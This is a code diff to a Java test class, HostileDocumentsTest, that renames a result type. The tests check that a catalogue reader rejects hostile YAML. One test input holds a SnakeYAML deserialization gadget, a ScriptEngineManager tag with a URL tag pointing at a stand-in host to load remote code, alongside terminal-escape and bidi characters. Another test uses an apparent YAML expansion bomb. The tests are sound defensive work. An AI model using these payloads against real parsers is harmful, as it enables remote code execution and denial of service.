@@ -44,7 +44,7 @@ class HostileDocumentsTest {
     @ParameterizedTest(name = "{0}")
     @MethodSource("documents")
     void aHostileDocumentIsRefusedWithItsReason(String name, String text) {
-        ReadCatalogue read = Shelf.document(text);
+        CatalogueRead read = Shelf.document(text);
 
         assertThat(read.events()).isEmpty();
         assertThat(read.mistakes()).isNotEmpty();
@@ -54,7 +54,7 @@ class HostileDocumentsTest {
 
     @Test
     void aHostileDocumentDoesNotStopTheReadingOfTheOthersOfWhichNothingIsPublished() {
-        ReadCatalogue read = new Shelf()
+        CatalogueRead read = new Shelf()
                 .put("bomb.yaml", multiplied())
                 .put("other.yaml", "images: {a: {source_url: https://e.org/a.qcow2}, b: {}}")
                 .catalogue("bomb.yaml", "other.yaml");
@@ -65,7 +65,7 @@ class HostileDocumentsTest {
 
     @Test
     void textIsNeverRunAndNeverShownRaw() {
-        ReadCatalogue read = Shelf.document(
+        CatalogueRead read = Shelf.document(
                 "images:\n  \"\\u202ea\\e[31m\":\n    !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x/\"]]\n");
 
         assertThat(read.mistakes()).isNotEmpty();
@@ -77,7 +77,7 @@ class HostileDocumentsTest {
         DocumentSource broken = location -> {
             throw new IOException("the network is down");
         };
-        ReadCatalogue read = new CatalogueDocuments(broken).read(java.util.List.of("https://e.org/a?token=s3cret"));
+        CatalogueRead read = new ReadCatalogue(broken).read(java.util.List.of("https://e.org/a?token=s3cret"));
 
         assertThat(read.mistakes())
                 .containsExactly(new Mistake("https://e.org/a", 0, null, null, "the network is down"));
